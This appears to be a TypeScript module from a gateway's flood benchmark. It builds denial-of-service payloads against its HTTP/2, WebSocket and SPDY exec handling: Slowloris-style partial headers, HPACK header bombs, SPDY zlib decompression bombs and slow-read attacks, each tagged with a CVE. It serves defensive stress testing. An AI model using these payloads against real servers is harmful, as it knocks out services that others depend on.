// The floods of Done-when 4 of issue 4: those of bench/floods, and beside them what is worse or what they leave out. Each
// is what one connection of the attacker says: once at its beginning, then again and again for as long as it is let.

import { deflateSync } from 'node:zlib'
import { ATTACKS as KNOWN, type Attack as KnownAttack } from '../../bench/floods/attacks.ts'
import { HpackEncoder } from '../../protocols/hpack/encoder.ts'
import { FLAG, FRAME, PREFACE, writeFrame, writeSettings } from '../../protocols/http2/frames.ts'
import { limits } from '../../protocols/limits.ts'
import { SpdyConnection } from '../../protocols/spdy/connection.ts'
import { DICTIONARY } from '../../protocols/spdy/dictionary.ts'
import type { Wire } from './frame-walk.ts'

export interface Attack extends KnownAttack {
  /** What `next` gives are pieces of a message that never ends, not frames. */
  readonly isDripping?: boolean
}

const MANY = 500
const SECOND = 1_000
const BIG = '/api/v1/namespaces/default/configmaps/big'
const END = FLAG.END_HEADERS | FLAG.END_STREAM
const BULK = 1_000_000_000

function exec(method: string, command: string, ...fields: readonly string[]): readonly string[] {
  const query = `container=c&${command}&stdout=true&stderr=true`
  return [`${method} /api/v1/namespaces/default/pods/p/exec?${query} HTTP/1.1`, 'Connection: Upgrade', ...fields]
}

function webSocketExec(command: string): readonly string[] {
  return exec(
    ...(['GET', command, 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'] as const),
    ...['Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Protocol: v5.channel.k8s.io'],
  )
}

function spdyExec(command: string): readonly string[] {
  return exec(
    ...(['POST', command, 'Upgrade: SPDY/3.1', 'Content-Length: 0'] as const),
    'X-Stream-Protocol-Version: v4.channel.k8s.io',
  )
}

function http2(write: (output: Uint8Array[]) => void): Buffer {
  const output: Uint8Array[] = []
  write(output)
  return Buffer.concat(output)
}

/** A masked frame whose key is zero: the mask's value is nothing to the gateway. */
function webSocketFrame(first: number, payload = ''): Buffer {
  return Buffer.concat([Buffer.from([first, 0x80 | payload.length, 0, 0, 0, 0]), Buffer.from(payload)])
}

function spdyControl(type: number, payload: Buffer): Buffer {
  const head = Buffer.from([0x80, 3, 0, type, 0, 0, 0, 0])
  head.writeUIntBE(payload.length, 5, 3)
  return Buffer.concat([head, payload])
}

/** Stream 1 with one header, "a", whose value is `octets` zeros: a block in the right form, a thousandth as long deflated. */
function spdyBomb(octets: number): Buffer {
  const block = Buffer.alloc(13 + octets)
  block.writeUInt32BE(1, 0)
  block.writeUInt32BE(1, 4)
  block.write('a', 8)
  block.writeUInt32BE(octets, 9)
  const deflated = deflateSync(block, { dictionary: DICTIONARY, level: 9 })
  return spdyControl(1, Buffer.concat([Buffer.from([0, 0, 0, 1, 0, 0, 0, 0, 0, 0]), deflated]))
}

/** What client-go opens for an exec without stdin. */
function spdyStreams(): Buffer {
  const machine = new SpdyConnection('client', limits.spdy)
  ;['error', 'stdout', 'stderr'].forEach((type, index) => {
    machine.send({ type: 'synStream', streamId: 2 * index + 1, headers: ['streamtype', type] })
  })
  return Buffer.concat(machine.takeOutput())
}

export const ATTACKS: Readonly<Record<string, Attack>> = {
  ...KNOWN,
  'slow heads': { ...(KNOWN['slow heads'] as KnownAttack), isDripping: true },
  'slow http2 heads': {
    ...{ source: 'Slowloris', protocol: 'h2', connections: MANY, paceMillis: SECOND, isDripping: true },
    // A block that is never whole: its last frame says 16 KiB and comes octet by octet.
    open: () => {
      const first = http2((output) => {
        output.push(PREFACE)
        writeSettings(output, [])
        writeFrame(output, FRAME.HEADERS, FLAG.END_STREAM, 1, new Uint8Array([0x82, 0x87]))
        output.push(new Uint8Array([0, 0x40, 0, FRAME.CONTINUATION, FLAG.END_HEADERS, 0, 0, 0, 1]))
      })
      return { first, next: () => Buffer.from([0x84]) }
    },
  },
  'hpack bomb within bounds': {
    // 60 KiB of fields for 100 octets, in requests that are answered: what passes each budget is the cost.
    ...{ source: 'CVE-2026-49975', protocol: 'h2', connections: 8, paceMillis: 50 },
    open: (token) => {
      const encoder = new HpackEncoder(limits.hpack)
      const path = '/api/v1/namespaces/default/configmaps/small'
      const fields = [':method', 'GET', ':scheme', 'https', ':authority', 'localhost', ':path', path]
      const head = encoder.encode([...fields, 'authorization', `Bearer ${token}`])
      // A literal that is never indexed leaves our encoder's table as the gateway's is; then "a" joins it, and is repeated.
      const entry = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xc1, 0x0f]), Buffer.alloc(2_112, 'x')])
      let stream = -1
      const ask = (output: Uint8Array[], block: Uint8Array): void => {
        stream += 2
        writeFrame(output, FRAME.HEADERS, END, stream, block)
      }
      const first = http2((output) => {
        output.push(PREFACE)
        writeSettings(output, [])
        ask(output, Buffer.concat([head, entry]))
      })
      const plain = new HpackEncoder({ ...limits.hpack, encoderTableSize: 0 })
      const request = plain.encode([...fields, 'authorization', `Bearer ${token}`])
      const bomb = Buffer.concat([request, Buffer.alloc(24, 0xbe)])
      const next = (): Buffer =>
        http2((output) => {
          for (let count = 0; count < 16; count++) ask(output, bomb)
        })
      return { first, next }
    },
  },
  'websocket pings among fragments': {
    ...{ source: 'CVE-2026-48779', protocol: 'http/1.1', connections: 8, isDeaf: true },
    upgrade: webSocketExec('command=idle&stdin=true'),
    open: () => {
      const next = Buffer.concat([
        ...Array.from({ length: 128 }, () => Buffer.concat([webSocketFrame(0x89, 'ping'), webSocketFrame(0x00, 'a')])),
      ])
      return { first: webSocketFrame(0x02, '\0'), next: () => next }
    },
  },
  'spdy zlib bomb': {
    ...{ source: 'CVE-2026-35469', protocol: 'http/1.1', connections: 8, upgrade: spdyExec('command=idle&stdin=true') },
    open: () => ({ first: Buffer.alloc(0), next: () => LARGEST_BOMB }),
  },
  'spdy zlib bomb within bounds': {
    ...{ source: 'CVE-2026-35469', protocol: 'http/1.1', connections: 8, upgrade: spdyExec('command=idle&stdin=true') },
    open: () => ({ first: Buffer.alloc(0), next: () => SMALLER_BOMB }),
  },
  'slow reads of answers': {
    ...{ source: 'CVE-2019-9517', protocol: 'http/1.1', connections: MANY, isDeaf: true, paceMillis: SECOND },
    open: (token) => {
      const request = Buffer.from(
        `GET ${BIG} HTTP/1.1\r\nHost: localhost\r\nAccept: application/json\r\nAuthorization: Bearer ${token}\r\n\r\n`,
      )
      return { first: request, next: () => request }
    },
  },
  'slow reads of a websocket exec': {
    ...{ source: 'CVE-2019-9517', protocol: 'http/1.1', connections: MANY, isDeaf: true, paceMillis: SECOND },
    upgrade: webSocketExec(`command=out&command=${BULK}`),
    open: () => ({ first: Buffer.alloc(0), next: () => webSocketFrame(0x89) }),
  },
  'slow reads of a spdy exec': {
    ...{ source: 'CVE-2019-9517', protocol: 'http/1.1', connections: MANY, isDeaf: true, paceMillis: SECOND },
    upgrade: spdyExec(`command=out&command=${BULK}`),
    open: () => ({ first: spdyStreams(), next: () => spdyControl(6, Buffer.from([0, 0, 0, 1])) }),
  },
}

const LARGEST_BOMB = spdyBomb(16_777_216)
const SMALLER_BOMB = spdyBomb(limits.spdy.inflatedBlock - 64)

/** What the attacker speaks once it may. */
export function wireOf({ protocol, upgrade }: Attack): Wire {
  if (protocol === 'h2') return 'http2'
  if (upgrade === undefined) return 'http1'
  return upgrade.includes('Upgrade: websocket') ? 'websocket' : 'spdy'
}
